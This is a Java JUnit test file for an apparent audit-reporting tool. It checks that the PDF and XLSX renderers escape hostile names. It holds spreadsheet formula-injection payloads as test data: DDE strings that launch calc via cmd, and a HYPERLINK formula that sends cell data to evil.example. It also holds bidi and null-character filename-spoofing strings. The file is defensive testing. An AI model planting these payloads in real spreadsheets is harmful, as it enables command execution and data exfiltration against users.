package org.meshaudit.reports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.lowagie.text.pdf.PdfReader;
import com.lowagie.text.pdf.parser.PdfTextExtractor;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.meshaudit.report.AuditReport;
import org.meshaudit.reports.common.SafeText;
import org.meshaudit.reports.pdf.PdfRenderer;
import org.meshaudit.reports.xlsx.XlsxRenderer;

/** Attacker-controlled names (security-reliability.md 4.3) neither inject formulas nor break the PDF. */
class HostileTextTest {
    static byte[] pdf;
    static byte[] xlsx;
    static List<String> pdfPages = new ArrayList<>();
    static List<String> cells = new ArrayList<>();

    @BeforeAll
    static void render() throws IOException {
        AuditReport r = Scenarios.hostile();
        pdf = RendererGoldenTest.render(new PdfRenderer(), r);
        xlsx = RendererGoldenTest.render(new XlsxRenderer(), r);
        PdfReader reader = new PdfReader(pdf);
        PdfTextExtractor ex = new PdfTextExtractor(reader);
        for (int i = 1; i <= reader.getNumberOfPages(); i++) {
            pdfPages.add(ex.getTextFromPage(i));
        }
        reader.close();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet s : wb) {
                for (Row row : s) {
                    for (Cell c : row) {
                        assertNotEquals(CellType.FORMULA, c.getCellType(),
                                "formula cell at " + s.getSheetName() + "!" + c.getAddress());
                        if (c.getCellType() == CellType.STRING) {
                            cells.add(c.getStringCellValue());
                        }
                    }
                }
            }
        }
    }

    @Test
    void noSpreadsheetCellCanBeReadAsAFormula() {
        for (String v : cells) {
            assertFalse(SafeText.needsFormulaGuard(v), "unguarded formula prefix: " + v);
        }
        assertTrue(cells.contains("'=cmd|' /C calc'!A0"), "guarded with a leading apostrophe, value kept");
        assertTrue(cells.contains("'+1+2"));
        assertTrue(cells.contains("'-2+3+cmd|' /C calc'!A0"));
        assertTrue(cells.contains("'@SUM(1+1)*cmd|' /C calc'!A0"));
        assertTrue(cells.contains("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"));
        assertTrue(cells.stream().anyMatch(v -> v.startsWith("observed =cmd")), "guard only where the cell starts with it");
    }

    @Test
    void spreadsheetCellsCarryNoControlOrBidiCharacters() {
        for (String v : cells) {
            v.codePoints().forEach(cp -> assertFalse(SafeText.isUnsafe(cp), "raw U+" + Integer.toHexString(cp) + " in " + v));
            assertTrue(v.length() <= 32_767);
        }
        assertTrue(cells.contains("invoice<U+202E>fdp.exe"));
        assertTrue(cells.contains("good.example<U+0000>.evil"));
        assertTrue(cells.contains("<U+0009>TAB=1+1"), "tab escaped, so no guard needed");
        assertTrue(cells.contains("שלום-עולם مرحبا"), "RTL letters themselves are kept");
    }

    @Test
    void longValuesAreShortenedWithAMarker() {
        assertTrue(cells.contains("x".repeat(2500)), "XLSX keeps values up to the cell limit");
        assertTrue(SafeText.cell("y".repeat(40_000), 32_000).length() < 32_767, "and shortens beyond it");
        assertTrue(String.join("", pdfPages).replace("\n", "").indexOf("x".repeat(1600)) < 0, "PDF shortens long values");
        assertTrue(String.join("\n", pdfPages).contains("more characters;"));
    }

    @Test
    void pdfStaysReadableAndShowsEscapes() {
        assertTrue(pdfPages.size() > 10, "rendered " + pdfPages.size() + " pages");
        String all = String.join("\n", pdfPages);
        for (int cp : new int[]{0x202E, 0x0000, 0x0007, 0x001B, 0x2067, 0x200B, 0xFEFF}) {
            assertEquals(-1, all.indexOf(cp), "raw U+" + Integer.toHexString(cp) + " in PDF text");
        }
        assertTrue(all.contains("invoice<U+202E>fdp.exe"));
        assertTrue(all.contains("good.example<U+0000>.evil"));
        assertTrue(all.contains("<U+63A7>"), "CJK without a glyph in the font is shown as a code point, not dropped");
        assertTrue(all.contains("<U+1F510>"), "emoji shown as a code point");
        assertTrue(all.contains("=cmd|' /C calc'!A0"), "PDF shows the name as it is (no formula risk there)");
    }

    @Test
    void everyPdfPageHasItsFooter() {
        int n = pdfPages.size();
        for (int i = 0; i < n; i++) {
            assertTrue(pdfPages.get(i).contains("Page " + (i + 1) + " of " + n), "page " + (i + 1));
        }
    }
}
